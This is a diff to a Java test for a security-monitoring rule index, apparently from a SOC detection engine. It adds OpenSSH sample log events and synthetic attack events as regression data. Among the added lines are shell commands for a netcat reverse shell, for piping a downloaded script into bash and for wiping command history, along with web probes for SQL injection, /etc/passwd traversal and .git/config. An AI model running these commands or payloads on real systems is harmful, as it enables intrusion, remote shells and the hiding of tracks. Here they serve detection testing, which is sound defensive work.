@@ -39,6 +39,25 @@ class RuleIndexEquivalenceTest {
                 }
             }
         }
+        // Linux and web events: sshd lines of Loghub's sample, and access lines, some with attacks.
+        vn.gov.moh.soc.core.parse.EventReader reader = new vn.gov.moh.soc.core.parse.EventReader();
+        Path csv = SharedData.dir("loghub/OpenSSH/OpenSSH_2k.log_structured.csv");
+        for (String row : Files.readAllLines(csv).subList(1, 2001)) {
+            String[] f = row.split(",", 7);
+            String content = f[6].replaceAll(",E\\d+,.*$", "");
+            events.add(reader.parseLine(f[1] + " " + f[2] + " " + f[3] + " " + f[4] + " sshd[" + f[5] + "]: " + content,
+                    vn.gov.moh.soc.core.parse.InputFormat.SYSLOG));
+        }
+        for (String line : List.of("cat /dev/null > ~/.bash_history", "history -c; rm -rf /tmp/x", "chmod 4777 /tmp/.scsi/dev/bin/gsh",
+                "wget http://x/y.sh | bash", "nc -e /bin/sh 10.0.0.1 4444", "python -c 'import pty;pty.spawn(\"/bin/bash\")'")) {
+            events.add(reader.parseLine("Nov 21 10:00:00 his-app-01 bash[77]: " + line, vn.gov.moh.soc.core.parse.InputFormat.SYSLOG));
+        }
+        for (String path : List.of("/", "/index.php?id=1%27%20union%20select", "/../../etc/passwd", "/wp-admin/setup-config.php",
+                "/cgi-bin/luci/;stok=/locale", "/solr/admin/cores?action=CREATE", "/.git/config", "/owa/auth/x.js")) {
+            events.add(reader.parseLine("203.0.113.5 - - [21/Nov/2026:10:00:00 +0700] \"GET " + path
+                    + " HTTP/1.1\" 200 1 \"-\" \"Mozilla/5.0 (compatible; Nmap Scripting Engine)\"",
+                    vn.gov.moh.soc.core.parse.InputFormat.ACCESS_LOG));
+        }
         // Variants: values of one event's fields moved into another of the same log source.
         Random random = new Random(11);
         int originals = events.size();
@@ -61,7 +80,7 @@ class RuleIndexEquivalenceTest {
             assertThat(indexed).as("event %s", e.fields().get("winlog.record_id")).isEqualTo(every);
             matched += every.size();
         }
-        assertThat(matched).isGreaterThan(originals);
+        assertThat(matched).as("the regression events alone match their rules").isGreaterThan(154);
         int[] coverage = rules.indexCoverage(events.get(0).logSource());
         System.out.printf("index: %d of %d rules of the first event's log source are indexed; %d matches checked%n",
                 coverage[0], coverage[1], matched);
